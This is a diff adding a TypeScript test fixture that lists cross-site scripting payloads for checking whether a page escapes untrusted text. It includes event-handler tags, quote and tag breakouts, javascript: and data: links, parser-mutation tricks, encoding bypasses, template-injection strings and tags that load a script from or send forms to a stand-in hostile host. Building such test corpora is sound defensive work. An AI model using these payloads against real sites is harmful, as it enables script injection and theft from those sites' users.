@@ -1,0 +1,142 @@
+// Texts that become a program where one is written into a page unescaped. Each sets `struck`, asks a question
+// of its own or calls another host, all of which a test notices.
+
+const ACT = 'top.struck=1';
+const HOST = 'hostile.example';
+
+/** What makes an element act by itself. */
+const ELEMENTS = [
+  `<img src=x onerror=${ACT}>`,
+  `<IMG/SRC=x/OnErRoR=${ACT}>`,
+  `<svg onload=${ACT}>`,
+  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
+  `<svg><script>${ACT}</script></svg>`,
+  `<video><source onerror=${ACT}></video>`,
+  `<audio src=x onerror=${ACT}>`,
+  `<details open ontoggle=${ACT}>`,
+  `<input autofocus onfocus=${ACT}>`,
+  `<select autofocus onfocus=${ACT}>`,
+  `<iframe srcdoc="<script>${ACT}</script>">`,
+  `<iframe src="javascript:${ACT}">`,
+  `<object data="javascript:${ACT}">`,
+  `<embed src="javascript:${ACT}">`,
+  `<link rel=stylesheet href=x onerror=${ACT}>`,
+  `<script>${ACT}</script>`,
+  `<script src=//${HOST}/a.js></script>`,
+  `<p style="animation:a" onanimationstart=${ACT}>`,
+];
+
+/** Where the text may stand, and how it gets out of there. */
+const WAYS_OUT = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '-->',
+  ']]>',
+  '</noscript>',
+];
+
+/** No new element: one that is there already learns something. */
+const ATTRIBUTES = ['"', "'", '`', '" ', '\\"', '&quot;', '" x=\''].map(
+  (quote) => `${quote} autofocus onfocus=${ACT} onmouseover=${ACT} onload=${ACT} x=${quote}`,
+);
+
+const ADDRESSES = [
+  `javascript:${ACT}`,
+  `JaVaScRiPt:${ACT}`,
+  ` javascript:${ACT}`,
+  `java\tscript:${ACT}`,
+  `java\nscript:${ACT}`,
+  `\u0001javascript:${ACT}`,
+  `javascript&colon;${ACT}`,
+  `&#106;avascript:${ACT}`,
+  `javascript:/*--></title></style></textarea></script>*/${ACT}`,
+  `data:text/html,<script>${ACT}</script>`,
+  `data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=`,
+  `vbscript:${ACT}`,
+  `//${HOST}/x`,
+  `https:${HOST}/x`,
+];
+
+const LINKS = ADDRESSES.flatMap((address) => [
+  `[lien](${address})`,
+  `![image](${address})`,
+  `<a href="${address}" autofocus>lien</a>`,
+]);
+
+/** What a parser repairs into something else than it read. */
+const REPAIRED = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ACT}>`,
+  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
+  `<scr\0ipt>${ACT}</scr\0ipt>`,
+  `<<script>${ACT}//<</script>`,
+  `<!--<img src="--><img src=x onerror=${ACT}//">`,
+  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
+  `<xmp><p title="</xmp><svg/onload=${ACT}>">`,
+  `<select><noscript></select><script>${ACT}</script>`,
+  `<table><td background=//${HOST}/x><img src=x onerror=${ACT}>`,
+];
+
+const ENCODED = [
+  `&lt;img src=x onerror=${ACT}&gt;`,
+  `&#60;img src=x onerror=${ACT}&#62;`,
+  `%3Cimg src=x onerror=${ACT}%3E`,
+  `\\u003cimg src=x onerror=${ACT}\\u003e`,
+  `\\x3cimg src=x onerror=${ACT}\\x3e`,
+  `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`,
+  `\uff1cscript\uff1e${ACT}\uff1c/script\uff1e`,
+  `\u2028<script>${ACT}</script>`,
+  `\ufeff<script>${ACT}</script>`,
+  `\u202e<script>${ACT}</script>`,
+];
+
+const CODE = [
+  `";${ACT};//`,
+  `';${ACT};//`,
+  `\`;${ACT};//`,
+  `\${${ACT}}`,
+  `{{constructor.constructor('${ACT}')()}}`,
+  `<%= ${ACT} %>`,
+  `#{${ACT}}`,
+  `</script><script>${ACT}//`,
+  `<!--<script>`,
+  `"}]}</script><svg onload=${ACT}>`,
+];
+
+const OUTWARD = [
+  `<base href=//${HOST}/>`,
+  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
+  `<style>*{background:url(//${HOST}/x)}</style>`,
+  `<p style="background:url(//${HOST}/x)">x`,
+  `<img src=//${HOST}/x>`,
+  `<link rel=prefetch href=//${HOST}/x>`,
+  `<form action=//${HOST}/x><input name=a autofocus>`,
+  `![image](https://${HOST}/x.png)`,
+];
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...WAYS_OUT.flatMap((way) => ELEMENTS.map((element) => way + element)),
+  ...ATTRIBUTES,
+  ...LINKS,
+  ...REPAIRED,
+  ...ENCODED,
+  ...CODE,
+  ...OUTWARD,
+];
+
+/** Addresses that are ones, and would be code in an attribute or a template. */
+export const HOSTILE_EMAILS: readonly string[] = [
+  "a'autofocus/onfocus='top.struck=1'",
+  `{{${ACT}}}`,
+  `\${${ACT}}`,
+  '=1+1',
+  '`onload=top.struck=1`',
+].map((local) => `${local}@tarot.example`);
